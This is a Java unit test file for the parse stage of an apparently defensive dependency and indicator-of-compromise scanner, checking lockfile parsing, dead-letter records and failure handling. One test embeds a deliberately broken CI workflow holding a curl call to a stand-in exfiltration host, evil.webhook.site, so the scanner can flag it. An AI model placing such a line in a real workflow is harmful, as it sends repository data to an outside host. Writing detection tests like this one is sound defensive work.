package io.iocstream.parse;

import static org.assertj.core.api.Assertions.assertThat;

import io.iocstream.changes.Trigger;
import io.iocstream.core.DeadLetter;
import io.iocstream.fetch.FetchedFile;
import io.iocstream.fetch.FileOp;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.ProcessFunctionTestHarnesses;
import org.junit.jupiter.api.Test;

/** The parse stage: facts of every read file, and what a file that does not parse still tells the matcher. */
class ParseFunctionTest {

    private static final FetchedFile.ScanContext AT =
            new FetchedFile.ScanContext("acme/app", "refs/heads/main", "c1", Trigger.PUSH, 1, 1);

    @Test
    void aRealLockfileGivesItsDependenciesHashAndRegistryHost() throws Exception {
        byte[] lock = Files.readAllBytes(Path.of("src/test/resources/lockfiles/package-lock-v2/package-lock.json"));
        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(new ParseFunction())) {
            harness.processElement(FetchedFile.content(AT, "package-lock.json", lock), 0);

            InventoryUpdate update = harness.extractOutputValues().get(0);
            assertThat(update.op()).isEqualTo(FileOp.CONTENT);
            assertThat(update.facts().dependencies()).isNotEmpty();
            assertThat(update.facts().sha256()).matches("[0-9a-f]{64}");
            assertThat(update.facts().hosts()).contains("registry.npmjs.org");
        }
    }

    /** A thousand bad lines: each counted, the first hundred a dead letter each, and one dead letter for the rest. */
    @Test
    void skippedEntriesPastTheFirstHundredAreCountedInOneDeadLetter() throws Exception {
        String lines = "github.com/bad/mod v1.0.0\n".repeat(1_000) + "github.com/sirupsen/logrus v1.9.3 h1:x=\n";
        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(new ParseFunction())) {
            harness.processElement(FetchedFile.content(AT, "go.sum", lines.getBytes(StandardCharsets.UTF_8)), 0);

            InventoryUpdate update = harness.extractOutputValues().get(0);
            assertThat(update.op()).isEqualTo(FileOp.CONTENT);
            assertThat(update.facts().skippedEntries()).isEqualTo(1_000);
            assertThat(update.facts().dependencies()).extracting(Dependency::identity)
                    .containsExactly(new Dependency("Go", "github.com/sirupsen/logrus", "v1.9.3"));
            List<DeadLetter> dead = harness.getSideOutput(DeadLetter.TAG).stream().map(StreamRecord::getValue).toList();
            assertThat(dead).hasSize(SkippedEntries.LISTED + 1);
            assertThat(dead.get(0)).isEqualTo(new DeadLetter("parse", "acme/app@c1:go.sum line 1",
                    "go.sum: malformed line", "github.com/bad/mod v1.0.0"));
            assertThat(dead.get(SkippedEntries.LISTED)).isEqualTo(new DeadLetter("parse", "acme/app@c1:go.sum",
                    "900 more entries skipped (only the first 100 of a file are dead letters)", ""));
        }
    }

    /** A workflow constructed for the test: not valid YAML, with an exfiltration URL in it. */
    @Test
    void aWorkflowThatDoesNotParseIsADeadLetterYetKeepsItsHashAndHosts() throws Exception {
        byte[] broken = "name: x\non: push\njobs: [\n  curl https://evil.webhook.site/x\n"
                .getBytes(StandardCharsets.UTF_8);
        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(new ParseFunction())) {
            harness.processElement(FetchedFile.content(AT, ".github/workflows/ci.yml", broken), 0);

            InventoryUpdate update = harness.extractOutputValues().get(0);
            assertThat(update.op()).isEqualTo(FileOp.FAILED);
            assertThat(update.facts().hosts()).containsExactly("evil.webhook.site");
            assertThat(update.facts().sha256()).matches("[0-9a-f]{64}");
            assertThat(update.facts().dependencies()).isEmpty();
            assertThat(harness.getSideOutput(DeadLetter.TAG)).extracting(StreamRecord::getValue)
                    .singleElement().satisfies(d -> assertThat(d.origin()).endsWith(":.github/workflows/ci.yml"));
        }
    }

    /** A read file without content (which the fetch stage never sends) stands for any file the parse stage fails on. */
    @Test
    void aFileTheParseStageFailsOnIsADeadLetterAndStillCompletesItsScan() throws Exception {
        byte[] lock = Files.readAllBytes(Path.of("src/test/resources/lockfiles/package-lock-v2/package-lock.json"));
        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(new ParseFunction())) {
            harness.processElement(FetchedFile.content(AT, "broken/package-lock.json", null), 0);
            harness.processElement(FetchedFile.content(AT, "package-lock.json", lock), 0);

            assertThat(harness.getSideOutput(DeadLetter.TAG)).extracting(StreamRecord::getValue).singleElement()
                    .satisfies(d -> {
                        assertThat(d.stage()).isEqualTo("parse");
                        assertThat(d.origin()).isEqualTo("acme/app@c1:broken/package-lock.json");
                        assertThat(d.reason()).startsWith("failed with NullPointerException");
                        assertThat(d.raw()).isEqualTo("CONTENT broken/package-lock.json");
                    });
            // the matcher gets a FAILED record without facts (the path keeps what it had), then the next file
            assertThat(harness.extractOutputValues()).satisfiesExactly(
                    failed -> {
                        assertThat(failed.op()).isEqualTo(FileOp.FAILED);
                        assertThat(failed.facts()).isNull();
                    },
                    next -> assertThat(next.facts().dependencies()).isNotEmpty());
        }
    }
}
